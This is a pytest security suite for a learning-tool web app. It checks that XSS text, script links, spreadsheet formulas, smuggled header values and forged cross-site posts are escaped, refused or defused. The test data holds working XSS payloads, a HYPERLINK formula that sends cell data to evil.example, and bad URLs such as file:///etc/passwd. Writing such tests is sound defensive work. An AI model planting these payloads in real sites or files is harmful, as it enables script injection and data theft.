"""Web security of the pages (security.md §3.2, §3.3, §3.4; DESIGN §4 "Web").

One site per database backend, filled through the pages with hostile text
in every field a person (teacher, student) or an LMS (names, course and link
titles) controls: `<script>alert(1)</script>` and `"><img src=x onerror=...>`
in standard codes, titles, descriptions and groups, playlist and item titles,
reading and checkpoint bodies, quick-check prompts, options and answers, goal
texts and comments, profile fields, reflection prompts and answers,
reassessment notes, evidence notes and item references, assignment notes,
scale labels, names and course titles; spreadsheet formulas (= + - @) in
titles, codes, names and LMS ids.

Then:
* every page that shows that text is parsed with html.parser: no injected
  element or event-handler attribute, no `javascript:`/`data:`/`vbscript:`
  link, inline scripts only with the response's CSP nonce; the text itself is
  shown (escaped, not dropped);
* teacher-typed URLs that are not absolute http(s) are refused with 400 and a
  message that says what a link must look like, and nothing is stored;
  reading bodies keep no script, handler or `javascript:` link;
* the CSP has a nonce, no 'unsafe-inline' scripts, object-src/base-uri
  'none', and frame-ancestors limited to the session's own platform;
* CSV and JSON downloads are attachments with `nosniff`, and every CSV cell
  that a spreadsheet would run as a formula is defused;
* every state-changing page refuses a change carrying only the cookie, one
  marked `Sec-Fetch-Site: cross-site`, and one from a foreign `Origin`, and
  nothing is written."""

from __future__ import annotations

import csv
import io
import json
import re
import uuid
from dataclasses import dataclass, field
from html.parser import HTMLParser

import pytest
from werkzeug.datastructures import MultiDict

from lti_tool import create_app
from lti_tool.db import session_scope
from lti_tool.launch.registrations import add_platform
from tests.support.databases import empty_database, wipe
from tests.support.platform import LTI, TestPlatform, canvas_flavor, moodle_flavor
from tests.test_isolation import (
    TOOL_URL,
    _launch,
    _one,
    _rows,
    changed_tables,
    snapshot,
)

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
CANVAS_ORIGINS = ("https://canvas.instructure.com", "https://sso.canvaslms.com")
MOODLE_ORIGIN = "https://moodle.example.edu"


def P(tag: str) -> str:  # noqa: N802 - the payload, named for the field it goes in
    return f"XSS-{tag} {SCRIPT} {IMG}"


CODE_SCRIPT = "C" + SCRIPT
CODE_IMG = "C" + IMG
CODE_FORMULA = "@SUM(A1)"
CODE_DISPOSITION = "x\"; filename*=UTF-8''evil.html; x=\""  # a header parameter
FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"Click")', "+SUM(1,2)", "-2+3",
            "@SUM(A1)")
QUESTIONS = (f"Q: {P('question')}\n= 9\nWhy: {P('why')}\n"
             f"Q: Pick the right one\n- {P('wrong-option')}\n* {P('right-option')}\n")
READING = ('<p>Safe text</p><script>alert(1)</script><img src=x onerror=alert(1)>'
           '<a href="javascript:alert(1)">js link</a> <a href="JaVaScRiPt:alert(1)">js 2</a>'
           '<iframe src="javascript:alert(1)"></iframe><a href="https://example.org/ok">ok</a>')


# -- the site --------------------------------------------------------------------------------
def _alerts(response) -> str:
    """The page's error messages, for a failing assertion."""
    body = response.get_data(as_text=True)
    found = re.findall(r'role="alert"[^>]*>(.*?)</', body, re.S)
    return " | ".join(found) or body[:800]


@dataclass
class Site:
    app: object
    url: str
    client: object
    tokens: dict[str, str] = field(default_factory=dict)
    ids: dict[str, int] = field(default_factory=dict)
    last: dict | None = None

    def post(self, path: str, who: str = "teacher", expect: int | None = 303, **data):
        response = self.client.post(path, data=MultiDict(
            [("t", self.tokens[who])] + [(k, x) for k, v in data.items()
                                         for x in (v if isinstance(v, list) else [v])]))
        if expect is not None:
            assert response.status_code == expect, (path, who, response.status_code,
                                                    _alerts(response))
        return response

    def get(self, path: str, who: str = "teacher", **params):
        return self.client.get(path, query_string={"t": self.tokens[who], **params})

    def new_id(self, table: str, action, where: str = "", **params) -> int:
        sql = f"SELECT id FROM {table} {where}"
        before = {r[0] for r in _rows(self.url, sql, **params)}
        action()
        (new,) = {r[0] for r in _rows(self.url, sql, **params)} - before
        return new

    def item(self, pid: int, **fields) -> int:
        fields.setdefault("tag", "must_do")
        return self.new_id("playlist_item", lambda: self.post(
            f"/course/playlists/{pid}/items/new", **fields), "WHERE playlist_id = :p", p=pid)


def _standards_csv() -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerows([
        ["code", "title", "description", "group"],
        ["R.1", P("standard-title"), P("standard-desc"), P("group")],
        [CODE_SCRIPT, "Code with a script", "", ""],
        [CODE_IMG, "Code with an image", "", ""],
        ["F.1", FORMULAS[0], FORMULAS[1], FORMULAS[2]],
        [CODE_FORMULA, FORMULAS[3], "", ""],
        [CODE_DISPOSITION, "Code with a quote", "", ""],
    ])
    return out.getvalue()


def _build(site: Site) -> None:
    ids, post = site.ids, site.post
    r = site.client.post("/course/standards", data={
        "t": site.tokens["teacher"],
        "file": (io.BytesIO(_standards_csv().encode()), "standards.csv")},
        content_type="multipart/form-data")
    assert r.status_code == 200, r.get_data(as_text=True)[:800]
    by_code = dict(_rows(site.url, "SELECT code, id FROM standard"))
    ids.update(r1=by_code["R.1"], code_script=by_code[CODE_SCRIPT],
               code_img=by_code[CODE_IMG], formula=by_code["F.1"],
               code_formula=by_code[CODE_FORMULA], disposition=by_code[CODE_DISPOSITION])
    post("/course/standards", expect=200, code="T.1", title=P("standard-form"),
         description=P("standard-form-desc"), group=P("group-form"))
    # Scale labels are teacher text on every gradebook page.
    ids["course"] = _one(site.url, "SELECT course_id FROM standard WHERE id = :i",
                         i=ids["r1"])
    levels = _rows(site.url, "SELECT points, label, colour, pattern FROM scale_level "
                   "WHERE course_id = :c ORDER BY points DESC", c=ids["course"])
    form = {"form": "scale", "count": str(len(levels))}
    for i, (points, _label, colour, pattern) in enumerate(levels):
        form.update({f"label-{i}": f"L{i} {SCRIPT}"[:60] if i % 2 == 0 else f"L{i}{IMG}",
                     f"points-{i}": f"{points:g}", f"colour-{i}": colour,
                     f"pattern-{i}": pattern})
    post("/course/settings", expect=200, **form)

    ids["playlist"] = pid = site.new_id("playlist", lambda: post(
        "/course/playlists", title=P("playlist-title"),
        description=P("playlist-desc") + ' <a href="javascript:alert(1)">js</a>',
        standards=[str(ids["r1"]), str(ids["code_script"])]))
    ids["resource"] = site.item(pid, kind="resource", title=P("resource-title"),
                                url="https://example.org/ok", standards=[str(ids["r1"])])
    ids["reading"] = site.item(pid, kind="reading", title=P("reading-title"), body=READING,
                               standards=[str(ids["r1"])])
    ids["video"] = site.item(pid, kind="video", title=P("video-title"), tag="may_do",
                             url="https://www.youtube.com/watch?v=dQw4w9WgXcQ")
    ids["quick"] = site.item(pid, kind="quick_check", title=P("quick-title"),
                             standards=[str(ids["r1"])], questions=QUESTIONS)
    ids["checkpoint"] = site.item(pid, kind="checkpoint", title=P("checkpoint-title"),
                                  body=P("checkpoint-body"),
                                  standards=[str(ids["code_script"])])
    ids["board"] = site.item(pid, kind="choice_board", title=P("board-title"),
                             tag="challenge", min_choices="1")
    ids["option"] = site.item(pid, kind="practice", title=P("option-title"),
                              board_id=str(ids["board"]), standards=[str(ids["code_img"])])
    ids["formula_item"] = site.item(pid, kind="practice", title=FORMULAS[0])
    post(f"/course/playlists/{pid}/publish", published="1")
    ids["reteach"] = rid = site.new_id("playlist", lambda: post(
        "/course/playlists", title=P("reteach-title"), standards=[str(ids["r1"])]))
    site.item(rid, kind="reading", title=P("reteach-item"), body="Again, step by step.")

    s1, s2 = ids["s1"], ids["s2"]
    for std in ("r1", "code_script", "code_img", "formula", "code_formula"):
        post(f"/course/standards/{ids[std]}/evidence", expect=200, source="checkpoint",
             assessed_at="2026-09-01", item_ref=P("item-ref"),
             **{f"score-{s1}": "3", f"score-{s2}": "2", f"note-{s1}": P("evidence-note")})
    post(f"/course/students/{s1}/standards/{ids['r1']}", action="override", value="3",
         note=P("override-note"))
    post(f"/course/standards/{ids['r1']}/assign", kind="playlist", playlist_id=str(rid),
         students=[str(s1)], note=P("assign-note"))
    post("/course/reflections", student_ids=[str(s1), str(s2)], prompt=P("prompt"))

    ids["goal"] = site.new_id("goal", lambda: post("/my/goals", "s1", text=P("goal"),
                                                   standard_id=str(ids["r1"])))
    post("/course/goals", goal_id=str(ids["goal"]), comment=P("comment"))
    post("/my/profile", "s1", strengths=P("strengths"), needs=P("needs"),
         interests=P("interests"), aspirations=P("aspirations"),
         show_learning=P("show-learning"))
    reflection = _one(site.url, "SELECT id FROM reflection WHERE student_id = :s", s=s1)
    post("/my/reflections", "s1", reflection_id=str(reflection), text=P("reflection-answer"))
    ids["reassessment"] = site.new_id("reassessment_request", lambda: post(
        f"/my/mastery/{ids['r1']}", "s1", expect=200, reflection=P("reassess")))
    post("/course/reassessments", request_id=str(ids["reassessment"]), decision="declined",
         note=P("decision-note"))
    post(f"/my/playlists/{pid}/items/{ids['quick']}/check", "s1", expect=200,
         **{"q-0": P("answer"), "q-1": "1"})
    post(f"/my/playlists/{pid}/items/{ids['resource']}/progress", "s1", status="started")
    ids["placement"] = site.new_id("placement", lambda: post(
        "/course/link/bind", playlist_id=str(pid)))
    ids["goal_other"] = site.new_id("goal", lambda: post("/my/goals", "s2", text="Plain"))


def _site(url, keys_dir, jwks_server, instance) -> Site:
    app = create_app({"instance_path": instance, "database_url": url, "keys_dir": keys_dir,
                      "base_url": TOOL_URL, "secret_key": "web-" + uuid.uuid4().hex,
                      "jwks_refetch_interval": 0})
    jwks_server.mode = "ok"
    jwks_server.jwks["keys"].clear()
    canvas = TestPlatform(canvas_flavor(), jwks_server, TOOL_URL)
    moodle = TestPlatform(moodle_flavor(), jwks_server, TOOL_URL)
    with session_scope(url) as session:
        add_platform(session, **canvas.registration())
        add_platform(session, **moodle.registration())
    launcher = app.test_client()
    course = dict(context_id="ctx-web", course_title=P("course"), link_id="link-web",
                  **{LTI + "resource_link": {"id": "link-web", "title": P("link")}})
    site = Site(app, url, app.test_client(use_cookies=False))
    site.tokens["teacher"] = _launch(launcher, canvas, role="teacher", sub="t-1",
                                     name="Grace Hopper", **course)
    site.tokens["s1"] = _launch(launcher, canvas, role="student", sub="s-1",
                                name="Eve Hacker", full_name=P("student-name"), **course)
    site.tokens["s2"] = _launch(launcher, canvas, role="student", sub="=2+3",
                                name="Formula Person", full_name=FORMULAS[0],
                                **{**course, "given_name": "+cmd", "family_name": "-cmd"})
    site.tokens["s1_evil_return"] = _launch(
        launcher, canvas, role="student", sub="s-1", name="Eve Hacker",
        full_name=P("student-name"), **{**course, LTI + "launch_presentation": {
            "document_target": "iframe",
            "return_url": "javascript:alert(1)//school.instructure.com"}})
    site.tokens["dl"] = _launch(launcher, canvas, role="teacher", sub="t-1",
                                name="Grace Hopper", deep_linking=True,
                                **{k: v for k, v in course.items()
                                   if k not in ("link_id", LTI + "resource_link")})
    site.tokens["moodle_teacher"] = _launch(launcher, moodle, role="teacher", sub="t-1",
                                            name="Grace Hopper", context_id="ctx-web",
                                            course_title="Moodle course")
    for sub, key in (("s-1", "s1"), ("=2+3", "s2"), ("t-1", "teacher")):
        site.ids[key] = _one(url, "SELECT u.id FROM lti_user u JOIN platform p ON "
                             "p.id = u.platform_id WHERE u.sub = :s AND p.client_id = :c",
                             s=sub, c=canvas.flavor.client_id)
    site.ids["platform"] = _one(url, "SELECT id FROM platform WHERE client_id = :c",
                                c=canvas.flavor.client_id)
    _build(site)
    return site


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def site(request, tool_keys_dir, jwks_server, tmp_path_factory):
    url = empty_database(request, request.param)
    built = _site(url, tool_keys_dir, jwks_server, tmp_path_factory.mktemp("web-instance"))
    yield built
    metrics = built.app.extensions.get("pathwise_metrics")
    if metrics is not None:
        metrics.flush_quietly()
    wipe(url)


# -- the HTML audit ------------------------------------------------------------------------
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background",
                  "xlink:href", "srcset", "cite", "ping"}
BAD_SCHEMES = re.compile(r"^\s*(javascript|vbscript|data):", re.IGNORECASE)


class Audit(HTMLParser):
    """What a browser would run: elements, attributes and script bodies."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self.nonces: list[str | None] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self._check(tag, attrs)
        if tag == "script":
            self._in_script = True
            values = dict(attrs)
            src = values.get("src")
            if src is None:
                self.nonces.append(values.get("nonce"))
            elif not src.startswith("/static/"):
                self.problems.append(f"script from {src!r}")

    def handle_startendtag(self, tag, attrs):
        self._check(tag, attrs)

    def _check(self, tag, attrs):
        for name, value in attrs:
            if name in ("value", "title", "aria-label", "placeholder"):
                self.text.append(value or "")
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and value and BAD_SCHEMES.match(
                    re.sub(r"[\x00-\x20]", "", value)):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "srcdoc":
                self.problems.append(f"<{tag} srcdoc>")
        if tag == "img" and dict(attrs).get("src") == "x":
            self.problems.append("the injected <img src=x>")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            if "alert(1)" in data:
                self.problems.append(f"script body with injected text: {data[:80]!r}")
        else:
            self.text.append(data)


def audit(body: str) -> Audit:
    parser = Audit()
    parser.feed(body)
    parser.close()
    return parser


def csp_directives(response) -> dict[str, list[str]]:
    header = response.headers.get("Content-Security-Policy", "")
    out = {}
    for part in header.split(";"):
        words = part.split()
        if words:
            out[words[0].lower()] = words[1:]
    return out


def check_page(response, *, expect: tuple = (), platform: str = "canvas") -> None:
    body = response.get_data(as_text=True)
    assert response.status_code in (200, 400), (response.status_code, body[:500])
    found = audit(body)
    assert not found.problems, found.problems
    text = " ".join(found.text)
    for tag in expect:
        assert f"XSS-{tag}" in text, f"the page does not show the {tag!r} text"
    # The hostile text is shown as text: tags appear literally, not as markup.
    if expect:
        assert SCRIPT in text or "onerror=alert(1)" in text
    assert response.headers.get("X-Content-Type-Options") == "nosniff"
    csp = csp_directives(response)
    assert csp, "no Content-Security-Policy on an HTML page"
    scripts = csp.get("script-src", [])
    nonces = [s[len("'nonce-"):-1] for s in scripts if s.startswith("'nonce-")]
    assert len(nonces) == 1 and len(nonces[0]) >= 16, scripts
    assert "'unsafe-inline'" not in scripts and "*" not in scripts, scripts
    assert all(n == nonces[0] for n in found.nonces), (found.nonces, nonces)
    assert csp.get("object-src") == ["'none'"] and csp.get("base-uri") == ["'none'"], csp
    ancestors = csp.get("frame-ancestors")
    assert ancestors and "'self'" in ancestors, csp
    assert not any(a == "*" or "*" in a for a in ancestors), ancestors
    assert not any(a.startswith(("http:", "https:")) and a.rstrip("/").count("/") < 2
                   for a in ancestors), ancestors  # no bare scheme sources
    mine, theirs = ((CANVAS_ORIGINS, (MOODLE_ORIGIN,)) if platform == "canvas"
                    else ((MOODLE_ORIGIN,), CANVAS_ORIGINS))
    assert any(o in ancestors for o in mine), ancestors
    assert not any(o in ancestors for o in theirs), ancestors


# (who, path template, fields that page must show)
PAGES = [
    ("teacher", "/home", ("playlist-title",)),
    ("teacher", "/account", ()),
    ("teacher", "/course/playlists", ("playlist-title", "reteach-title")),
    ("teacher", "/course/playlists?copied=" + P("reflected-copied"), ("reflected-copied",)),
    ("teacher", "/course/playlists/{playlist}", ("playlist-title", "resource-title",
                                                 "quick-title", "board-title")),
    ("teacher", "/course/playlists/{playlist}/items/{resource}", ("resource-title",)),
    ("teacher", "/course/playlists/{playlist}/items/{reading}", ("reading-title",)),
    ("teacher", "/course/playlists/{playlist}/items/{quick}", ("quick-title", "question",
                                                              "why", "wrong-option")),
    ("teacher", "/course/playlists/{playlist}/items/{checkpoint}", ("checkpoint-title",
                                                                   "checkpoint-body")),
    ("teacher", "/course/playlists/{playlist}/items/{option}", ("option-title",)),
    ("teacher", "/course/playlists/{playlist}/items/new?kind=quick_check", ()),
    ("teacher", "/course/playlists/{playlist}/preview?student={s1}", ("playlist-title",
                                                                      "resource-title")),
    ("teacher", "/course/playlists/{playlist}/progress", ("student-name", "resource-title")),
    ("teacher", "/course/playlists/{playlist}/items/{checkpoint}/assess",
     ("checkpoint-title", "student-name")),
    ("teacher", "/course/standards", ("standard-title", "standard-form", "group")),
    ("teacher", "/course/standards?edit={r1}", ("standard-title", "standard-desc")),
    ("teacher", "/course/standards?edit={code_script}", ()),
    ("teacher", "/course/standards/{r1}/evidence", ("standard-title", "student-name")),
    ("teacher", "/course/standards/{r1}/groups", ("student-name",)),
    ("teacher", "/course/standards/{code_img}/groups", ()),
    ("teacher", "/course/students/{s1}/standards/{r1}", ("standard-title", "evidence-note",
                                                         "override-note")),
    ("teacher", "/course/students/{s1}/profile", ("strengths", "needs", "show-learning",
                                                  "goal")),
    ("teacher", "/course/gradebook", ("student-name",)),
    ("teacher", "/course/settings", ()),
    ("teacher", "/course/goals", ("goal", "comment")),
    ("teacher", "/course/reflections", ("prompt", "reflection-answer")),
    ("teacher", "/course/reassessments", ("reassess",)),
    ("teacher", "/course/placements/{placement}", ("playlist-title",)),
    ("teacher", "/course/placements/{placement}?message=" + P("reflected-message"),
     ("reflected-message",)),
    ("dl", "/dl/pick", ("playlist-title",)),
    ("s1", "/home", ("playlist-title",)),
    ("s1", "/account", ()),
    ("s1", "/my/playlists/{playlist}", ("playlist-title", "resource-title", "board-title",
                                        "option-title")),
    ("s1", "/my/playlists/{playlist}/items/{resource}", ("resource-title",)),
    ("s1", "/my/playlists/{playlist}/items/{reading}", ("reading-title",)),
    ("s1", "/my/playlists/{playlist}/items/{video}", ("video-title",)),
    ("s1", "/my/playlists/{playlist}/items/{quick}", ("quick-title", "question",
                                                      "wrong-option")),
    ("s1", "/my/playlists/{playlist}/items/{checkpoint}", ("checkpoint-title",
                                                           "checkpoint-body")),
    ("s1", "/my/playlists/{playlist}/items/{board}", ("board-title", "option-title")),
    ("s1", "/my/playlists/{reteach}", ("reteach-title", "reteach-item")),
    ("s1", "/my/mastery", ("standard-title",)),
    ("s1", "/my/mastery/{r1}", ("standard-title", "item-ref")),
    ("s1", "/my/goals", ("goal", "comment")),
    ("s1", "/my/reflections", ("reflection-answer",)),
    ("s1", "/my/profile", ("strengths", "aspirations")),
    ("s1", "/my/reflections?item_id={checkpoint}", ("checkpoint-title",)),
    ("s1_evil_return", "/home", ("playlist-title",)),
    ("moodle_teacher", "/home", ()),
]


@pytest.mark.parametrize(("who", "template", "expect"),
                         [pytest.param(*p, id=f"{p[0]}:{p[1]}") for p in PAGES])
def test_pages_show_hostile_text_escaped_under_a_strict_csp(site, who, template, expect):
    path = template.format(**site.ids)
    path, _, query = path.partition("?")
    params = dict(part.split("=", 1) for part in query.split("&")) if query else {}
    response = site.get(path, who, **params)
    assert response.status_code == 200, (path, response.status_code,
                                          response.get_data(as_text=True)[:500])
    check_page(response, expect=expect,
               platform="moodle" if who.startswith("moodle") else "canvas")


def test_quick_check_result_and_deep_link_return_escape_titles(site):
    pid, quick = site.ids["playlist"], site.ids["quick"]
    answered = site.post(f"/my/playlists/{pid}/items/{quick}/check", "s1", expect=200,
                         **{"q-0": P("second-answer"), "q-1": "0"})
    check_page(answered, expect=("quick-title",))
    picked = site.post("/dl/pick", "dl", expect=200, title=P("dl-new"))
    check_page(picked, expect=("dl-new", "playlist-title"))
    returned = site.post("/dl/return", "dl", expect=200, playlist=[str(pid)])
    check_page(returned)
    site.last = None


def test_reading_and_description_html_keeps_no_script(site):
    body, = _rows(site.url, "SELECT body FROM playlist_item WHERE id = :i",
                  i=site.ids["reading"])[0]
    description, = _rows(site.url, "SELECT description FROM playlist WHERE id = :i",
                         i=site.ids["playlist"])[0]
    for stored in (body, description):
        lowered = stored.lower()
        assert "<script" not in lowered and "onerror" not in lowered, stored
        assert "javascript:" not in lowered and "<iframe" not in lowered, stored
    assert "Safe text" in body and 'href="https://example.org/ok"' in body


# -- teacher-typed URLs ----------------------------------------------------------------------
BAD_URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "  javascript:alert(1)",
    "java\tscript:alert(1)", "java\nscript:alert(1)", "\x00javascript:alert(1)",
    "javascript://example.org/%0Aalert(1)", "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)", "//evil.example/x", "file:///etc/passwd", "ftp://example.org/x",
    "https:evil.example", "http://", "https://user:pw@evil.example/",
    "https://example.org\\@evil.example/",
]


# Every URL on a new resource; the worst few on a new video and on edits.
URL_CASES = ([("resource", "new", u) for u in BAD_URLS]
             + [("video", "new", u) for u in BAD_URLS[:3] + BAD_URLS[7:10]]
             + [(kind, "edit", u) for kind in ("resource", "video")
                for u in ("javascript:alert(1)", "data:text/html,x", "//evil.example/x")])


@pytest.mark.parametrize(("kind", "where", "url"), URL_CASES,
                         ids=[f"{k}-{w}-{repr(u)[1:-1][:40]}" for k, w, u in URL_CASES])
def test_item_urls_must_be_http_or_https(site, kind, where, url):
    pid = site.ids["playlist"]
    item = "new" if where == "new" else site.ids[kind]  # the resource or the video item
    before = site.last or snapshot(site.url)
    path = f"/course/playlists/{pid}/items/{item}"
    response = site.post(path, expect=None, kind=kind, tag="must_do", title=P("rerender"),
                         url=url)
    body = response.get_data(as_text=True)
    assert response.status_code == 400, (path, url, response.status_code)
    message = " ".join(audit(body).text)
    assert re.search(r"https?://", message) and "link" in message.lower(), \
        "the refusal does not say what a link must look like"
    check_page(response, expect=("rerender",))
    after = site.last = snapshot(site.url)
    assert not changed_tables(before, after), f"{url!r} changed {changed_tables(before, after)}"
    assert not _rows(site.url, "SELECT id FROM playlist_item WHERE lower(url) LIKE "
                     "'%script%' OR url LIKE 'data:%' OR url LIKE '//%'")


def test_imported_playlist_urls_must_be_http_or_https(site):
    exported = site.get(f"/course/playlists/{site.ids['playlist']}/export.json")
    doc = json.loads(exported.data)
    before = snapshot(site.url)
    for bad in ("javascript:alert(1)", "data:text/html,x", "//evil.example/"):
        resource = next(i for i in doc["items"] if i.get("url"))
        resource["url"] = bad
        response = site.client.post("/course/playlists/import", data={
            "t": site.tokens["teacher"],
            "file": (io.BytesIO(json.dumps(doc).encode()), "p.json")},
            content_type="multipart/form-data")
        assert response.status_code == 400, (bad, response.status_code)
        check_page(response)
    assert not changed_tables(before, snapshot(site.url))


def test_the_lms_return_url_is_not_a_script_link(site):
    body = site.get("/home", "s1_evil_return").get_data(as_text=True)
    assert "javascript:" not in body.lower()


# -- downloads ----------------------------------------------------------------------------
DOWNLOADS = [
    ("/course/gradebook.csv", "text/csv"),
    ("/course/standards.csv", "text/csv"),
    ("/course/standards/{r1}/groups?format=csv", "text/csv"),
    ("/course/standards/{code_formula}/groups?format=csv", "text/csv"),
    ("/course/standards/{disposition}/groups?format=csv", "text/csv"),
    ("/course/playlists/{playlist}/export.json", "application/json"),
]
# One attachment with one file name (werkzeug may add its RFC 5987 twin for
# non-ASCII names): no quote, backslash, slash or semicolon smuggled in.
DISPOSITION = re.compile(r'^attachment; filename="[^"\\/;\x00-\x1f]+\.(csv|json)"'
                         r"(; filename\*=UTF-8''[^\"\\/;\s]+\.(csv|json))?$")


@pytest.mark.parametrize(("template", "mimetype"), DOWNLOADS, ids=[d[0] for d in DOWNLOADS])
def test_downloads_are_attachments_that_do_not_sniff(site, template, mimetype):
    path = template.format(**site.ids)
    path, _, query = path.partition("?")
    params = dict(part.split("=", 1) for part in query.split("&")) if query else {}
    response = site.get(path, **params)
    assert response.status_code == 200
    assert response.mimetype == mimetype
    assert response.headers.get("X-Content-Type-Options") == "nosniff"
    disposition = response.headers.get("Content-Disposition", "")
    assert DISPOSITION.match(disposition), \
        f"Content-Disposition is not one plain attachment file name: {disposition!r}"
    if mimetype == "text/csv":
        text = response.data.decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
        live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert not live, f"cells a spreadsheet would run: {live}"


def test_csv_exports_keep_the_formulas_as_defused_text(site):
    standards = site.get("/course/standards.csv").data.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(standards)) for cell in row]
    for formula in FORMULAS:
        assert "'" + formula in cells, formula
    gradebook = site.get("/course/gradebook.csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(gradebook)))
    assert "'" + FORMULAS[0] in [cell for row in rows for cell in row]   # a name from the LMS
    assert "'=2+3" in [cell for row in rows for cell in row]             # an LMS id
    assert any(cell.startswith("'@SUM(A1)") for cell in rows[0])         # a code in a header


# -- CSRF -------------------------------------------------------------------------------------
CROSS_SITE_BY_DESIGN = {"/lti/login", "/lti/launch", "/lti/register"}
ARG_IDS = {"playlist_id": "playlist", "item_id": "resource", "standard_id": "r1",
           "student_id": "s1", "goal_id": "goal_other", "assignment_id": "assignment",
           "placement_id": "placement", "platform_id": "platform"}


def _post_routes(app) -> list[str]:
    return sorted({rule.rule for rule in app.url_map.iter_rules()
                   if "POST" in rule.methods and rule.rule not in CROSS_SITE_BY_DESIGN
                   and not rule.rule.startswith("/admin/")})


def test_every_change_needs_the_token_and_a_same_site_request(site):
    """For every POST route: only the cookie (what a cross-site form carries),
    the token with `Sec-Fetch-Site: cross-site`, and the token with a foreign
    Origin are all refused; nothing is written."""
    site.ids.setdefault("assignment", _one(site.url, "SELECT MIN(id) FROM assignment"))
    routes = _post_routes(site.app)
    assert len(routes) >= 30, routes
    before = snapshot(site.url)
    problems = []
    for rule in routes:
        path = rule
        for arg in re.findall(r"<(?:int:)?(\w+)>", rule):
            assert arg in ARG_IDS, f"test_web_security.ARG_IDS has no id for <{arg}> ({rule})"
            path = re.sub(rf"<(?:int:)?{arg}>", str(site.ids[ARG_IDS[arg]]), path)
        who = "s1" if path.startswith("/my/") else ("dl" if path.startswith("/dl/")
                                                     else "teacher")
        token = site.tokens[who]
        form = {"title": "Forged", "published": "0", "status": "done", "met": "1",
                "text": "Forged goal", "code": "X.1", "target_date": "2099-01-01"}
        attempts = {
            "cookie only": dict(data=form, headers={"Cookie": f"pathwise_session={token}"}),
            "cross-site": dict(data={"t": token, **form},
                               headers={"Sec-Fetch-Site": "cross-site"}),
            "foreign origin": dict(data={"t": token, **form},
                                   headers={"Origin": "https://evil.example"}),
            "null origin": dict(data={"t": token, **form}, headers={"Origin": "null"}),
        }
        for label, kwargs in attempts.items():
            response = site.client.post(path, **kwargs)
            wanted = (401,) if label == "cookie only" else (403,)
            if response.status_code not in wanted:
                problems.append(f"{label}: POST {path} -> {response.status_code}")
    after = snapshot(site.url)
    assert not problems, "\n".join(problems)
    assert not changed_tables(before, after), changed_tables(before, after)
    # The tool's own form (same origin) goes through.
    ok = site.client.post("/my/goals", data={"t": site.tokens["s1"], "text": "Mine"},
                          headers={"Sec-Fetch-Site": "same-origin", "Origin": TOOL_URL})
    assert ok.status_code == 303
    site.last = None
